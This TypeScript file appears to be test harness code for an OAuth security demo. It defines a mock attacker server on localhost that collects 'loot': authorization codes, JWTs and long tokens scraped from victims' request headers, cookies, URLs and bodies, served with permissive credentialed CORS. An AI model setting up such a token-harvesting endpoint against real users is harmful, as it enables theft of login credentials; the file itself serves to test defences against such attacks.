import { createHash, randomBytes } from "node:crypto";
import type { IncomingMessage, ServerResponse } from "node:http";
import { text } from "node:stream/consumers";
import { type Listener, listen } from "strongroom-demo/servers/loopback.js";

/** A string that reached the attacker, and by which attack. */
export interface Candidate {
  attack: string;
  text: string;
}

/** The attacker's own server, and the secret it shares with nobody. */
export class Attacker {
  readonly codeVerifier = randomBytes(32).toString("base64url");
  readonly codeChallenge = createHash("sha256").update(this.codeVerifier).digest("base64url");
  readonly #candidates = new Map<string, Set<string>>();
  readonly #bodies = new Map<string, string[]>();
  /** Pages of the attacker, by path. */
  readonly pages = new Map<string, string>();

  private constructor(private readonly listener: Listener) {}

  static async start(): Promise<Attacker> {
    const listener = await listen();
    const attacker = new Attacker(listener);
    listener.serve((request, response) => {
      // A browser that goes away in the middle of a request is no error here.
      attacker.#answer(request, response).catch(() => response.destroy());
    });
    return attacker;
  }

  /** On a site of its own. */
  get url(): string {
    return `http://127.0.0.1:${this.listener.port}`;
  }

  /** The same server as a sibling of `hostname`: a host of the same site. */
  siblingUrl(hostname: string): string {
    return `http://${hostname}:${this.listener.port}`;
  }

  /** What reached the server by the attack of that name; forgotten with the asking. */
  takeLoot(attack: string): string[] {
    const key = attack.replaceAll(" ", "-");
    const loot = [...(this.#candidates.get(key) ?? [])];
    this.#candidates.delete(key);
    return loot;
  }

  /** What was sent to a path of the server, as it came; forgotten with the asking. */
  takeBodies(path: string): string[] {
    const bodies = this.#bodies.get(path) ?? [];
    this.#bodies.delete(path);
    return bodies;
  }

  close(): Promise<void> {
    return this.listener.close();
  }

  #add(attack: string, candidate: string): void {
    const key = attack.replaceAll(" ", "-");
    const of = this.#candidates.get(key) ?? new Set();
    this.#candidates.set(key, of.add(candidate));
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const url = new URL(request.url ?? "/", this.url);
    const [, attack = ""] = url.pathname.split("/");
    if (attack === "loot") {
      const sent = request.method === "POST" ? await text(request) : url.searchParams.get("loot");
      for (const [name, candidate] of JSON.parse(sent ?? "[]") as [string, string][]) {
        this.#add(name, candidate);
      }
      return void response.writeHead(204, { "access-control-allow-origin": "*" }).end();
    }
    // Whatever a request of the victim's browser carries is loot: headers, cookies, the URL, the body.
    const body = request.method === "POST" || request.method === "PUT" ? await text(request) : "";
    for (const part of [...Object.values(request.headers), request.url, body]) {
      for (const [candidate] of String(part).matchAll(
        /\bcode=[\w-]+|eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|[\w-]{40,}/g,
      )) {
        this.#add(attack, candidate);
      }
    }
    const bodies = this.#bodies.get(url.pathname) ?? [];
    this.#bodies.set(url.pathname, [...bodies, body, url.searchParams.get("answer") ?? ""]);
    // A page that is told to go here stays where it is.
    if (url.searchParams.has("answer")) return void response.writeHead(204).end();
    const page = this.pages.get(url.pathname);
    response.writeHead(200, {
      "content-type": page === undefined ? "text/plain" : "text/html; charset=utf-8",
      "access-control-allow-origin": request.headers.origin ?? "*",
      "access-control-allow-headers": "authorization, content-type",
      "access-control-allow-methods": "*",
      "access-control-allow-credentials": "true",
    });
    response.end(page ?? "taken");
  }
}
